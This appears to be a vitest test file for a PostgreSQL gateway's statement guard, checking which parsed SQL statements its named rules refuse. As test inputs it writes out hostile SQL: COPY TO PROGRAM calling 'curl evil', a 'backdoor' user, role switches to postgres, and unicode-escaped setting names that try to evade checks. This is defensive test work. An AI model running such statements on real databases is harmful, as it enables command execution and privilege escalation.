import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { dirname, join } from "node:path";
import { parseSync } from "libpg-query";
import { beforeAll, describe, expect, it } from "vitest";
import { GUARD_RULE_NAMES } from "../contract/config-schema.js";
import { type GuardRuleName, NODE_CLASSES, type NodeType, STATEMENT_TYPES } from "../contract/guard-classes.js";
import { NAMED_RULES } from "../contract/guard-rules.js";
import type { GuardRules } from "../core/model.js";
import { NODE_FIELDS } from "./parse-node-fields.js";
import { blockedStatement, decide, decideStartup, loadParser, sessionGuard } from "./statement-guard.js";

const guard = (named: readonly GuardRuleName[], more: Partial<GuardRules> = {}): GuardRules => ({
  named,
  deny: [],
  denySchemas: [],
  setRoles: [],
  ...more,
});

const rules = guard(["drop_table", "truncate", "delete_without_where", "copy_program", "alter_system"], {
  denySchemas: ["audit"],
});

beforeAll(() => loadParser());

/** libpg-query's own list of node types: the `Node` union of its `@pgsql/types` (from pg_query.proto). */
let library: { nodes: string[]; fields: Record<string, Record<string, string>> } | undefined;
function libraryTypes(): { nodes: string[]; fields: Record<string, Record<string, string>> } {
  if (library) return library;
  const fromLibrary = createRequire(createRequire(import.meta.url).resolve("libpg-query"));
  const text = readFileSync(join(dirname(fromLibrary.resolve("@pgsql/types/package.json")), "types.d.ts"), "utf8");
  const union = /export type Node = ([\s\S]*?\});\n/.exec(text)?.[1] ?? "";
  const nodes = [...union.matchAll(/\{\s*(\w+): \1;\s*\}/g)].map((m) => m[1] as string);
  const known = new Set(nodes);
  const fields: Record<string, Record<string, string>> = {};
  for (const m of text.matchAll(/export interface (\w+) \{([^}]*)\}/g)) {
    for (const f of (m[2] as string).matchAll(/^\s*(\w+)\?: (\w+)(?:\[\])?;/gm)) {
      if (!known.has(f[2] as string)) continue;
      const of = fields[m[1] as string] ?? {};
      of[f[1] as string] = f[2] as string;
      fields[m[1] as string] = of;
    }
  }
  library = { nodes, fields };
  return library;
}

/** The node types in a statement's parse tree, found without the guard's own walker. */
function typesIn(sql: string): Set<string> {
  const found = new Set<string>();
  const { fields } = libraryTypes();
  const typed = (type: string, node: unknown) => {
    found.add(type);
    if (typeof node !== "object" || node === null) return;
    for (const [k, v] of Object.entries(node)) {
      const bare = fields[type]?.[k];
      for (const x of Array.isArray(v) ? v : [v]) bare ? typed(bare, x) : any(x);
    }
  };
  const any = (v: unknown): void => {
    if (Array.isArray(v)) v.forEach(any);
    else if (typeof v === "object" && v !== null) {
      for (const [k, x] of Object.entries(v)) Object.hasOwn(NODE_CLASSES, k) ? typed(k, x) : any(x);
    }
  };
  typed("ParseResult", parseSync(sql));
  return found;
}

/**
 * An example of every statement type, with the named rules that must refuse it — and so, every
 * other rule must let it through. Several examples where a rule applies only sometimes.
 */
const EXAMPLES: Readonly<Record<(typeof STATEMENT_TYPES)[number], readonly [string, ...GuardRuleName[]][] | string>> = {
  SelectStmt: [["SELECT * FROM accounts"], ["SELECT * INTO copy FROM accounts"]],
  InsertStmt: [["INSERT INTO accounts VALUES (3, 'x', 1)"]],
  UpdateStmt: [
    ["UPDATE accounts SET balance = 0 WHERE id = 1"],
    ["UPDATE accounts SET balance = 0", "update_without_where"],
    ["UPDATE pg_settings SET setting = 'app_owner' WHERE name = 'role'", "set_role", "session_bounds"],
    [
      "UPDATE pg_catalog.pg_settings SET setting = '0' WHERE name = 'client_connection_check_interval'",
      "set_role",
      "session_bounds",
    ],
  ],
  DeleteStmt: [["DELETE FROM accounts WHERE id = 1"], ["DELETE FROM accounts", "delete_without_where"]],
  MergeStmt: [["MERGE INTO accounts a USING staged s ON a.id = s.id WHEN MATCHED THEN DELETE"]],
  CopyStmt: [["COPY accounts TO STDOUT"], ["COPY accounts TO PROGRAM 'curl evil'", "copy_program"]],
  TruncateStmt: [["TRUNCATE accounts", "truncate"]],
  DeclareCursorStmt: [["DECLARE c CURSOR FOR SELECT 1"]],
  FetchStmt: [["FETCH 10 FROM c"]],
  ClosePortalStmt: [["CLOSE c"]],
  ExplainStmt: [["EXPLAIN SELECT 1"], ["EXPLAIN ANALYZE DELETE FROM accounts", "delete_without_where"]],
  PrepareStmt: [["PREPARE p AS SELECT 1"], ["PREPARE p AS DELETE FROM accounts", "delete_without_where"]],
  ExecuteStmt: [["EXECUTE p"]],
  DeallocateStmt: [["DEALLOCATE p"]],
  CallStmt: [["CALL repair(1)"]],
  DoStmt: [["DO $$BEGIN NULL; END$$", "do_block"]],
  ReturnStmt: [["CREATE FUNCTION one() RETURNS int LANGUAGE sql BEGIN ATOMIC RETURN 1; END", "create_function"]],
  PLAssignStmt: "produced only by PL/pgSQL's parser, never for a statement sent to the gateway",
  SetOperationStmt: "produced only by parse analysis; the parser gives a SelectStmt for UNION",
  RawStmt: [["SELECT 1"]],
  VariableSetStmt: [
    ["SET work_mem = '64MB'"],
    ["SET ROLE app_owner", "set_role"],
    ["SET LOCAL ROLE app_owner", "set_role"],
    ["SET SESSION AUTHORIZATION app_owner", "set_role"],
    ["SET ROLE NONE"],
    ["RESET ROLE"],
    ["SET SESSION AUTHORIZATION DEFAULT"],
    ["SET client_connection_check_interval = 0", "session_bounds"],
    ['SET LOCAL "TCP_KEEPALIVES_IDLE" TO 0', "session_bounds"],
    ["SET tcp_user_timeout = 0", "session_bounds"],
    ["RESET client_connection_check_interval"],
    ["SET tcp_keepalives_count TO DEFAULT"],
  ],
  VariableShowStmt: [["SHOW work_mem"]],
  TransactionStmt: [["BEGIN"]],
  ConstraintsSetStmt: [["SET CONSTRAINTS ALL DEFERRED"]],
  LockStmt: [["LOCK accounts"]],
  DiscardStmt: [["DISCARD ALL"]],
  ListenStmt: [["LISTEN ch"]],
  UnlistenStmt: [["UNLISTEN ch"]],
  NotifyStmt: [["NOTIFY ch"]],
  LoadStmt: [["LOAD 'auto_explain'"]],
  CheckPointStmt: [["CHECKPOINT"]],
  GrantStmt: [
    ["GRANT SELECT ON accounts TO reporting", "grant"],
    ["REVOKE SELECT ON accounts FROM reporting", "grant"],
  ],
  AlterDefaultPrivilegesStmt: [
    ["ALTER DEFAULT PRIVILEGES FOR ROLE app_owner GRANT ALL ON TABLES TO reporting", "grant"],
  ],
  GrantRoleStmt: [["GRANT app_owner TO reporting", "grant_role"]],
  CreateRoleStmt: [
    ["CREATE ROLE helper NOLOGIN", "create_role"],
    ["CREATE ROLE helper IN ROLE app_owner", "create_role", "grant_role"],
    ["CREATE ROLE helper LOGIN", "create_role", "login_credential"],
    ["CREATE ROLE helper PASSWORD 'x'", "create_role", "login_credential"],
    ["CREATE ROLE helper PASSWORD NULL", "create_role"],
    ["CREATE USER helper", "create_role", "login_credential"],
    ["CREATE USER helper NOLOGIN", "create_role"],
    ["CREATE ROLE helper NOLOGIN VALID UNTIL 'infinity'", "create_role", "login_credential"],
  ],
  AlterRoleStmt: [
    ["ALTER ROLE reporting CONNECTION LIMIT 3", "alter_role"],
    ["ALTER ROLE CURRENT_USER PASSWORD 'mine'", "alter_role", "login_credential"],
    ["ALTER USER reporting LOGIN", "alter_role", "login_credential"],
    ["ALTER ROLE reporting NOLOGIN", "alter_role"],
    ["ALTER ROLE CURRENT_USER VALID UNTIL 'infinity'", "alter_role", "login_credential"],
    ["ALTER GROUP app_owner ADD USER reporting", "alter_role", "grant_role"],
  ],
  AlterRoleSetStmt: [
    ["ALTER ROLE reporting SET work_mem = '1GB'", "alter_role"],
    ["ALTER ROLE CURRENT_USER SET role = 'app_owner'", "alter_role", "set_role"],
  ],
  DropRoleStmt: [["DROP ROLE reporting", "drop_any", "alter_role"]],
  DropOwnedStmt: [["DROP OWNED BY victim", "drop_table", "drop_schema", "drop_any", "grant"]],
  ReassignOwnedStmt: [
    ["REASSIGN OWNED BY victim TO reporting", "drop_table", "drop_schema", "drop_any", "change_owner"],
  ],
  AlterOwnerStmt: [
    ["ALTER SCHEMA app OWNER TO reporting", "change_owner"],
    ["ALTER FUNCTION f() OWNER TO app_owner", "change_owner", "security_definer"],
    ["ALTER PROCEDURE p() OWNER TO app_owner", "change_owner", "security_definer"],
  ],
  DropStmt: [
    ["DROP TABLE accounts", "drop_table", "drop_any"],
    ["DROP FOREIGN TABLE remote", "drop_table", "drop_any"],
    ["DROP INDEX accounts_pkey", "drop_any"],
    ["DROP TYPE mood CASCADE", "drop_table", "drop_any"],
    ["DROP SCHEMA app", "drop_schema", "drop_any"],
    ["DROP SCHEMA app CASCADE", "drop_table", "drop_schema", "drop_any"],
    ["DROP EXTENSION postgis", "drop_table", "drop_schema", "drop_any"],
    ["DROP FUNCTION f()", "drop_any"],
  ],
  DropdbStmt: [["DROP DATABASE app", "drop_database", "drop_table", "drop_schema", "drop_any"]],
  DropTableSpaceStmt: [["DROP TABLESPACE fast", "drop_any"]],
  DropUserMappingStmt: [["DROP USER MAPPING FOR reporting SERVER remote", "drop_any"]],
  DropSubscriptionStmt: [["DROP SUBSCRIPTION sub", "drop_any"]],
  CreateFunctionStmt: [
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "create_function"],
    [
      "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'",
      "create_function",
      "security_definer",
    ],
    [
      "CREATE PROCEDURE p() LANGUAGE sql EXTERNAL SECURITY DEFINER AS 'SELECT 1'",
      "create_function",
      "security_definer",
    ],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY INVOKER AS 'SELECT 1'", "create_function"],
    [
      "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = 'app_owner' AS 'SELECT 1'",
      "create_function",
      "set_role",
    ],
  ],
  AlterFunctionStmt: [
    ["ALTER FUNCTION f() STABLE", "create_function"],
    ["ALTER FUNCTION f() SECURITY DEFINER", "create_function", "security_definer"],
    ["ALTER ROUTINE f() SECURITY INVOKER", "create_function"],
  ],
  AlterSystemStmt: [
    ["ALTER SYSTEM SET wal_level = minimal", "alter_system"],
    ["ALTER SYSTEM SET role = 'app_owner'", "alter_system", "set_role"],
  ],
  CreatedbStmt: [["CREATE DATABASE scratch"], ["CREATE DATABASE scratch OWNER reporting", "change_owner"]],
  AlterDatabaseStmt: [["ALTER DATABASE app CONNECTION LIMIT 10"]],
  AlterDatabaseSetStmt: [
    ["ALTER DATABASE app SET work_mem = '64MB'"],
    ["ALTER DATABASE app SET session_authorization = 'app_owner'", "set_role"],
  ],
  AlterDatabaseRefreshCollStmt: [["ALTER DATABASE app REFRESH COLLATION VERSION"]],
  CreateTableSpaceStmt: [
    ["CREATE TABLESPACE fast LOCATION '/ssd'"],
    ["CREATE TABLESPACE fast OWNER reporting LOCATION '/ssd'", "change_owner"],
  ],
  AlterTableSpaceOptionsStmt: [["ALTER TABLESPACE fast SET (random_page_cost = 1)"]],
  AlterTableMoveAllStmt: [["ALTER TABLE ALL IN TABLESPACE fast SET TABLESPACE pg_default"]],
  CreateSchemaStmt: [
    ["CREATE SCHEMA scratch"],
    ["CREATE SCHEMA scratch AUTHORIZATION CURRENT_USER"],
    ["CREATE SCHEMA scratch AUTHORIZATION app_owner", "change_owner"],
  ],
  CreateStmt: [["CREATE TABLE t (a int)"]],
  CreateTableAsStmt: [["CREATE TABLE t AS SELECT 1"], ["CREATE MATERIALIZED VIEW mv AS SELECT 1"]],
  AlterTableStmt: [
    ["ALTER TABLE accounts ADD COLUMN note text"],
    ["ALTER TABLE accounts OWNER TO reporting", "change_owner"],
    ["ALTER VIEW v OWNER TO app_owner", "change_owner"],
  ],
  ReplicaIdentityStmt: [["ALTER TABLE accounts REPLICA IDENTITY FULL"]],
  RenameStmt: [["ALTER TABLE accounts RENAME TO accounts_old"], ["ALTER ROLE reporting RENAME TO rep", "alter_role"]],
  AlterObjectSchemaStmt: [["ALTER TABLE accounts SET SCHEMA archive"]],
  AlterObjectDependsStmt: [["ALTER FUNCTION f() DEPENDS ON EXTENSION postgis"]],
  ViewStmt: [
    ["CREATE VIEW v AS SELECT 1"],
    ["CREATE VIEW v AS SELECT * FROM pg_settings", "set_role", "session_bounds"],
    [
      "CREATE OR REPLACE VIEW v AS SELECT name FROM (SELECT * FROM pg_catalog.pg_settings) s",
      "set_role",
      "session_bounds",
    ],
  ],
  RefreshMatViewStmt: [["REFRESH MATERIALIZED VIEW mv"]],
  IndexStmt: [["CREATE INDEX ON accounts (owner)"]],
  ReindexStmt: [["REINDEX TABLE accounts"]],
  ClusterStmt: [["CLUSTER accounts"]],
  VacuumStmt: [["VACUUM accounts"], ["ANALYZE accounts"]],
  CreateSeqStmt: [["CREATE SEQUENCE s"]],
  AlterSeqStmt: [["ALTER SEQUENCE s RESTART"]],
  CreateStatsStmt: [["CREATE STATISTICS st ON id, owner FROM accounts"]],
  AlterStatsStmt: [["ALTER STATISTICS st SET STATISTICS 100"]],
  CreateTrigStmt: [["CREATE TRIGGER tr AFTER INSERT ON accounts FOR EACH ROW EXECUTE FUNCTION f()"]],
  CreateEventTrigStmt: [["CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()"]],
  AlterEventTrigStmt: [["ALTER EVENT TRIGGER et DISABLE"]],
  RuleStmt: [
    ["CREATE RULE r AS ON INSERT TO accounts DO ALSO NOTIFY ch"],
    ["CREATE RULE r AS ON INSERT TO accounts DO ALSO DELETE FROM ledger", "delete_without_where"],
  ],
  CreatePolicyStmt: [["CREATE POLICY p ON accounts USING (true)"]],
  AlterPolicyStmt: [["ALTER POLICY p ON accounts USING (false)"]],
  CommentStmt: [["COMMENT ON TABLE accounts IS 'x'"]],
  SecLabelStmt: [["SECURITY LABEL ON TABLE accounts IS 'x'"]],
  DefineStmt: [["CREATE AGGREGATE agg (int) (sfunc = int4pl, stype = int)"]],
  CompositeTypeStmt: [["CREATE TYPE pair AS (a int, b int)"]],
  CreateEnumStmt: [["CREATE TYPE mood AS ENUM ('ok')"]],
  CreateRangeStmt: [["CREATE TYPE r AS RANGE (subtype = int4)"]],
  AlterEnumStmt: [["ALTER TYPE mood ADD VALUE 'sad'"]],
  AlterTypeStmt: [["ALTER TYPE pair SET (storage = plain)"]],
  CreateDomainStmt: [["CREATE DOMAIN pos AS int CHECK (VALUE > 0)"]],
  AlterDomainStmt: [["ALTER DOMAIN pos DROP DEFAULT"]],
  AlterOperatorStmt: [["ALTER OPERATOR === (int, int) SET (RESTRICT = eqsel)"]],
  CreateOpClassStmt: [["CREATE OPERATOR CLASS c FOR TYPE int USING btree AS OPERATOR 1 <"]],
  CreateOpFamilyStmt: [["CREATE OPERATOR FAMILY f USING btree"]],
  AlterOpFamilyStmt: [["ALTER OPERATOR FAMILY f USING btree ADD OPERATOR 1 < (int, int)"]],
  CreateCastStmt: [["CREATE CAST (int AS mood) WITH FUNCTION f(int)"]],
  CreateConversionStmt: [["CREATE CONVERSION c FOR 'LATIN1' TO 'UTF8' FROM f"]],
  CreateTransformStmt: [["CREATE TRANSFORM FOR int LANGUAGE plpgsql (FROM SQL WITH FUNCTION f(internal))"]],
  AlterCollationStmt: [["ALTER COLLATION c REFRESH VERSION"]],
  AlterTSDictionaryStmt: [["ALTER TEXT SEARCH DICTIONARY d (StopWords = english)"]],
  AlterTSConfigurationStmt: [["ALTER TEXT SEARCH CONFIGURATION c DROP MAPPING FOR word"]],
  CreateAmStmt: [["CREATE ACCESS METHOD am TYPE TABLE HANDLER heap_tableam_handler"]],
  CreatePLangStmt: [["CREATE LANGUAGE plsample HANDLER plsample_call_handler"]],
  CreateExtensionStmt: [["CREATE EXTENSION postgis"]],
  AlterExtensionStmt: [["ALTER EXTENSION postgis UPDATE"]],
  AlterExtensionContentsStmt: [["ALTER EXTENSION postgis ADD TABLE accounts"]],
  CreateFdwStmt: [["CREATE FOREIGN DATA WRAPPER w"]],
  AlterFdwStmt: [["ALTER FOREIGN DATA WRAPPER w NO VALIDATOR"]],
  CreateForeignServerStmt: [["CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw"]],
  AlterForeignServerStmt: [["ALTER SERVER remote VERSION '2'"]],
  CreateForeignTableStmt: [["CREATE FOREIGN TABLE remote_t (a int) SERVER remote"]],
  ImportForeignSchemaStmt: [["IMPORT FOREIGN SCHEMA s FROM SERVER remote INTO public"]],
  CreateUserMappingStmt: [["CREATE USER MAPPING FOR reporting SERVER remote"]],
  AlterUserMappingStmt: [["ALTER USER MAPPING FOR reporting SERVER remote OPTIONS (SET password 'x')"]],
  CreatePublicationStmt: [["CREATE PUBLICATION pub FOR TABLE accounts"]],
  AlterPublicationStmt: [["ALTER PUBLICATION pub ADD TABLE ledger"]],
  CreateSubscriptionStmt: [["CREATE SUBSCRIPTION sub CONNECTION 'host=x' PUBLICATION pub"]],
  AlterSubscriptionStmt: [["ALTER SUBSCRIPTION sub DISABLE"]],
};

describe("the guard's classification of PostgreSQL's parse tree", () => {
  it("classifies every node type of libpg-query's own list, and nothing else", () => {
    const { nodes } = libraryTypes();
    expect(nodes.length).toBeGreaterThan(250); // the list was found (271 in libpg-query 17)
    expect(Object.keys(NODE_CLASSES).sort()).toEqual([...nodes].sort());
    // PostgreSQL names its statement nodes …Stmt; the table marks exactly those as statements.
    for (const type of nodes) {
      expect(NODE_CLASSES[type as NodeType].kind, type).toBe(type.endsWith("Stmt") ? "statement" : "part");
    }
    expect(STATEMENT_TYPES.length).toBe(nodes.filter((n) => n.endsWith("Stmt")).length);
  });

  it("knows every field that holds a bare node (the walk must descend into them)", () => {
    const { fields } = libraryTypes();
    expect(NODE_FIELDS, `parse-node-fields.ts is stale; it should be:\n${JSON.stringify(fields)}`).toEqual(fields);
  });

  it("has an example of every statement type, refused by exactly the rules the table gives it", () => {
    for (const type of STATEMENT_TYPES) {
      const examples = EXAMPLES[type];
      const cls = NODE_CLASSES[type];
      if (typeof examples === "string") {
        expect(Object.keys(cls.rules), `${type} is never parsed from SQL, so it cannot carry a rule`).toEqual([]);
        continue;
      }
      const refusedBy = new Set<GuardRuleName>();
      for (const [sql, ...expected] of examples) {
        expect(typesIn(sql), `${sql} parses to a ${type}`).toContain(type);
        for (const rule of GUARD_RULE_NAMES) {
          const verdict = decide(sql, guard([rule]));
          expect(verdict.allowed, `${sql} under ${rule}`).toBe(!expected.includes(rule));
          if (!verdict.allowed && Object.hasOwn(cls.rules, rule)) refusedBy.add(rule);
        }
      }
      // Every rule the table lists for the type is shown refusing one of its examples.
      expect([...refusedBy].sort(), type).toEqual(Object.keys(cls.rules).sort());
    }
  });

  it("refuses DROP OWNED and REASSIGN OWNED under the drop rules, saying which statement and rule", () => {
    for (const rule of ["drop_table", "drop_schema", "drop_any"] as const) {
      expect(decide("DROP OWNED BY victim", guard([rule]))).toEqual({
        allowed: false,
        reason: `DROP OWNED (drops every object of the roles, revokes their privileges) is not allowed (${rule})`,
      });
      expect(decide("REASSIGN OWNED BY victim TO app_owner", guard([rule]))).toMatchObject({ allowed: false });
    }
    expect(decide("DROP SCHEMA app CASCADE", guard(["drop_table"]))).toEqual({
      allowed: false,
      reason: "DROP SCHEMA … CASCADE is not allowed (drop_table)",
    });
  });

  it("lets SET ROLE switch only to the roles the grant holds; any other role, or one it cannot read, is refused", () => {
    const holder = guard(["set_role"], { setRoles: ["recovery_rw", "bg_g_1"] });
    expect(decide("SET ROLE recovery_rw", holder)).toEqual({ allowed: true });
    expect(decide("SET ROLE bg_g_1", holder)).toEqual({ allowed: true });
    expect(decide("SELECT set_config('role', 'recovery_rw', false)", holder)).toEqual({ allowed: true });
    expect(decide("RESET ROLE", holder)).toEqual({ allowed: true });
    expect(decide("SET ROLE app_owner", holder)).toEqual({
      allowed: false,
      reason: "SET ROLE app_owner is not allowed (set_role)",
    });
    // Role names are case-sensitive once quoted: "Recovery_rw" is another role.
    expect(decide('SET ROLE "Recovery_rw"', holder)).toMatchObject({ allowed: false });
    for (const sql of [
      "SELECT set_config('role', 'app_owner', false)",
      "SELECT pg_catalog.set_config(setting_name => 'role', new_value => 'app_owner', is_local => false)",
      "SELECT set_config(name, 'app_owner', false) FROM (VALUES ('role')) AS v(name)",
      "SELECT set_config('role', v, false) FROM (VALUES ('app_owner')) AS x(v)",
      "SELECT set_config('session_authorization', 'postgres', false)",
      "SET SESSION AUTHORIZATION postgres",
      "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role FROM CURRENT AS 'SELECT 1'",
      "ALTER ROLE CURRENT_USER SET role = 'app_owner'",
      "UPDATE pg_catalog.pg_settings SET setting = 'app_owner' WHERE name = 'role'",
    ]) {
      expect(decide(sql, holder).allowed, sql).toBe(false);
    }
    expect(decide("SELECT set_config('work_mem', '64MB', false)", holder)).toEqual({ allowed: true });
  });

  it("decides startup parameters as the SETs they are", () => {
    const holder = guard(["set_role"], { setRoles: ["recovery_rw"] });
    expect(decideStartup({ application_name: "psql", client_encoding: "UTF8" }, holder)).toEqual({ allowed: true });
    expect(decideStartup({ options: "-c role=recovery_rw -c search_path=app" }, holder)).toEqual({ allowed: true });
    expect(decideStartup({ options: "-c role=app_owner" }, holder)).toEqual({
      allowed: false,
      reason: "startup parameter role: SET ROLE app_owner is not allowed (set_role)",
    });
    expect(decideStartup({ options: "--role=app_owner" }, holder)).toMatchObject({ allowed: false });
    expect(decideStartup({ options: "-crole=app_owner" }, holder)).toMatchObject({ allowed: false });
    expect(decideStartup({ options: "-c\\ role=app_owner" }, holder)).toMatchObject({ allowed: false });
    expect(decideStartup({ role: "app_owner" }, holder)).toMatchObject({ allowed: false });
    expect(decideStartup({ options: "-B 1000" }, holder)).toMatchObject({ allowed: false });
    expect(decideStartup({ options: "-B 1000" }, guard([]))).toEqual({ allowed: true });
  });

  it("refuses a statement type it does not know under every rule (a parser newer than the table)", async () => {
    const { classifyNode } = await import("../contract/guard-classes.js");
    expect(classifyNode("FutureStmt", {}, ["drop_table"])).toEqual([
      { rule: "drop_table", label: "FutureStmt (a statement type the guard does not know)" },
    ]);
  });

  it("is the table docs/gateway.md shows", () => {
    const doc = readFileSync(join(import.meta.dirname, "../../docs/gateway.md"), "utf8");
    expect(doc).toContain(classificationTable());
    for (const [rule, what] of Object.entries(NAMED_RULES)) expect(doc).toContain(`| \`${rule}\` | ${what} |`);
  });
});

/** The statement types with rules, as docs/gateway.md lists them. */
function classificationTable(): string {
  const rows = ["| node | SQL | refused by |", "|---|---|---|"];
  const none: string[] = [];
  const parts = Object.keys(NODE_CLASSES).filter((t) => NODE_CLASSES[t as NodeType].kind === "part");
  for (const type of [...STATEMENT_TYPES, ...parts]) {
    const c = NODE_CLASSES[type as NodeType];
    const ruled = Object.entries(c.rules).map(([r, v]) => (v === true ? `\`${r}\`` : `\`${r}\` (${v.when})`));
    if (ruled.length === 0) {
      if (c.kind === "statement") none.push(type);
      continue;
    }
    rows.push(`| \`${type}\` | ${c.sql} | ${ruled.join("; ")} |`);
  }
  return `${rows.join("\n")}\n\nNo named rule (custom rules and \`deny_schemas\` still apply): ${none.map((t) => `\`${t}\``).join(", ")}.\n`;
}

describe("statement guard", () => {
  it("decides on the parse tree, not on the text", () => {
    expect(decide("DROP TABLE public.accounts", rules)).toEqual({
      allowed: false,
      reason: "DROP TABLE is not allowed (drop_table)",
    });
    expect(decide("SELECT 'DROP TABLE accounts' AS harmless", rules)).toEqual({ allowed: true });
    expect(decide("drop   index accounts_pkey", rules)).toEqual({ allowed: true });
    expect(decide("/* hi */ TrUnCaTe accounts", rules)).toMatchObject({
      allowed: false,
      reason: "TRUNCATE is not allowed (truncate)",
    });
    expect(decide("DELETE FROM accounts WHERE id = 1", rules)).toEqual({ allowed: true });
    expect(decide("DELETE FROM accounts", rules)).toMatchObject({
      reason: "DELETE without WHERE is not allowed (delete_without_where)",
    });
    expect(decide("COPY accounts TO PROGRAM 'curl evil'", rules)).toMatchObject({
      reason: "COPY … PROGRAM is not allowed (copy_program)",
    });
    expect(decide("COPY accounts TO STDOUT", rules)).toEqual({ allowed: true });
    expect(decide("ALTER SYSTEM SET wal_level = minimal", rules)).toMatchObject({ allowed: false });
  });

  it("finds a denied statement anywhere: in a multi-statement query, a data-modifying WITH, EXPLAIN ANALYZE, PREPARE", () => {
    expect(decide("SELECT 1; DROP TABLE accounts", rules)).toMatchObject({ allowed: false });
    expect(decide("WITH d AS (DELETE FROM accounts RETURNING *) SELECT count(*) FROM d", rules)).toMatchObject({
      allowed: false,
    });
    expect(decide("EXPLAIN ANALYZE DELETE FROM accounts", rules)).toMatchObject({ allowed: false });
    expect(decide("PREPARE p AS DELETE FROM accounts", rules)).toMatchObject({ allowed: false });
  });

  it("refuses statements on denied schemas — any relation named in one, and DROPs of it or in it — and what it cannot parse", () => {
    expect(decide("SELECT * FROM audit.events WHERE id = $1", rules)).toEqual({
      allowed: false,
      reason: "statements on schema audit are not allowed",
    });
    for (const sql of [
      "DELETE FROM audit.events WHERE id = 1",
      "UPDATE audit.events SET x = 1 WHERE id = 1",
      "INSERT INTO audit.events VALUES (1)",
      "COPY audit.events FROM STDIN",
      "ALTER TABLE audit.events DISABLE TRIGGER ALL",
      "DROP VIEW audit.events_v",
      "DROP FUNCTION audit.seal(int)",
      "DROP SCHEMA audit CASCADE",
      "SELECT * INTO audit.copy FROM public.x",
    ]) {
      expect(decide(sql, guard([], { denySchemas: ["audit"] })), sql).toEqual({
        allowed: false,
        reason: "statements on schema audit are not allowed",
      });
    }
    expect(decide("SELECT * FROM public.events", rules)).toEqual({ allowed: true });
    expect(decide("DROP SCHEMA auditing", guard([], { denySchemas: ["audit"] }))).toEqual({ allowed: true });
    const bad = decide("SELEC 1", rules);
    expect(bad.allowed).toBe(false);
    expect(bad.allowed || bad.reason).toMatch(/could not be parsed/);
  });

  it("custom rules match node fields, also of nodes held bare in a field; no rules means no guard", () => {
    const index = guard([], {
      deny: [{ node: "DropStmt", where: { removeType: "OBJECT_INDEX" }, label: "DROP INDEX" }],
    });
    expect(decide("DROP INDEX i", index)).toMatchObject({ reason: "DROP INDEX is not allowed" });
    expect(decide("DROP TABLE t", index)).toEqual({ allowed: true });
    const dropColumn = guard([], {
      deny: [{ node: "AlterTableCmd", where: { subtype: "AT_DropColumn" }, label: "DROP COLUMN" }],
    });
    expect(decide("ALTER TABLE t DROP COLUMN c", dropColumn)).toMatchObject({ reason: "DROP COLUMN is not allowed" });
    const intoTable = guard([], { deny: [{ node: "IntoClause", label: "SELECT INTO" }] });
    expect(decide("SELECT 1 INTO t", intoTable)).toMatchObject({ reason: "SELECT INTO is not allowed" });
    expect(sessionGuard(guard([]))).toBeNull();
    expect(sessionGuard(null)).toBeNull();
    const cached = sessionGuard(rules);
    expect(cached?.("DROP TABLE t")).toMatchObject({ allowed: false });
    expect(cached?.("DROP TABLE t")).toMatchObject({ allowed: false });
  });

  it("decides the same with and without the quick path of a session with only the gateway's own rules", () => {
    const always = guard(["login_credential", "session_bounds"]);
    const quick = sessionGuard(always);
    const refused = [
      "ALTER ROLE CURRENT_USER PASSWORD 'mine'",
      "alter user current_user with encrypted password 'SCRAM-SHA-256$4096:…'",
      "CREATE USER backdoor",
      "SET client_connection_check_interval = 0",
      'SET U&"client\\005fconnection\\005fcheck\\005finterval" = 0',
      "SELECT set_config('tcp_keepalives_idle', '0', false)",
      "SELECT U&\"set\\005fconfig\"('client_connection_check_interval', '0', false)",
      "UPDATE pg_settings SET setting = '0' WHERE name = 'client_connection_check_interval'",
      "CREATE VIEW v AS SELECT * FROM pg_settings",
    ];
    for (const sql of refused) expect(decide(sql, always).allowed, sql).toBe(false);
    for (const sql of [
      ...refused,
      "/* */ ALTER/**/GROUP g ADD USER u",
      "SELECT 1",
      "SELECT * FROM users",
      "SET work_mem = '1GB'",
      "SELEC 1",
    ]) {
      const slow = decide(sql, always);
      // The quick path skips only texts that cannot hold what the rules refuse; an unparsable one
      // without such a word goes to the target, which refuses it as PostgreSQL would.
      if (/role|user|group|client_connection|tcp_|set_config|pg_settings|u&/i.test(sql) || slow.allowed)
        expect(quick?.(sql), sql).toEqual(slow);
      else expect(quick?.(sql), sql).toEqual({ allowed: true });
    }
  });

  it("replaces a blocked statement with one that raises the guard's error, whatever the reason says", () => {
    const text = blockedStatement("it's $bg$ broken", "prod/db");
    expect(decide(text, guard([], { denySchemas: ["x"] }))).toEqual({ allowed: true }); // it parses
    expect(text).toContain("ERRCODE = '42501'");
    expect(text).toContain("Breakglass guard: it''s bg broken for role prod/db");
  });
});
